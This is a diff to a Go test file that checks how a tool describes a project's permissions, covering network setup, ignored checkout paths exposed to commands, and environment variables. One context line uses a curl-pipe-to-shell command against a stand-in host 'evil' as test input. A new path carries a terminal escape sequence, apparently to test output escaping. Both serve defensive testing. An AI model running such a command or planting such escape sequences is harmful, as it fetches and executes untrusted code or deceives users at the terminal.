@@ -30,6 +30,17 @@ func TestRequests(t *testing.T) {
 				"setup reaches this machine's own addresses (loopback)", `setup, with the network: sh -c "curl evil|sh\n"`,
 			},
 		},
+		"environment": {
+			project: spec.Project{Environment: spec.Environment{Paths: []string{"node_modules", "a b/\x1b[2K"}}},
+			want: []string{
+				`environment: every command sees a copy of "a b/\x1b[2K" of your checkout, which git ignores`,
+				"environment: every command sees a copy of node_modules of your checkout, which git ignores",
+			},
+		},
+		"environment, before its paths are known": {
+			project: spec.Project{Environment: spec.Environment{Word: spec.EnvironmentCheckout}},
+			want:    []string{"environment: every command sees all paths of your checkout that git ignores"},
+		},
 		"env": {
 			project: spec.Project{Env: []string{"MY_PAT", "DATABASE_URL", "MY_PAT"}},
 			want:    []string{"env: every command sees your variable DATABASE_URL", "env: every command sees your variable MY_PAT"},
